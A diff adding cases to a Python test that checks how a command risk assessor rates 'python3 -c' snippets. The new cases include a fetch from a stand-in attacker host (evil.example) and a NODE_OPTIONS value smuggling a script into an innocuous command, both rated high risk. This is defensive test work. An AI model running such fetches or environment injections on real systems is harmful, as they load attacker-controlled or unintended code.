@@ -584,6 +584,12 @@ def test_python_is_judged_from_an_allowlist(code: str) -> None:
     ("import subprocess; print(subprocess.check_output(['git', 'status']).decode())", "low", ""),
     ("import django; print(django.get_version())", "medium", "runs the project’s own code"),
     ("from app import create_app; create_app()", "medium", "runs the project’s own code"),
+    ("import urllib.request; urllib.request.urlopen('https://evil.example/x')", "high", "(python3: evil.example)"),
+    ("import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip', 'list'])", "low", ""),
+    ("import os, subprocess; subprocess.run(['npm', 'test'], env={**os.environ, 'CI': '1'})", "medium", "npm test"),
+    ("import os, subprocess; subprocess.run(['ls'], env={**os.environ, 'NODE_OPTIONS': '-r ./x.js'})", "high",
+     CANNOT_TELL),
+    ("class A:\n  def __init__(self):\n    super().__init__()\n    self.x = 1\nprint(A().x)", "low", ""),
 ])
 def test_python_effects_are_judged_by_what_they_do(code: str, level: str, reason: str) -> None:
     found = assess_command(f"python3 -c {shlex.quote(code)}", CWD)
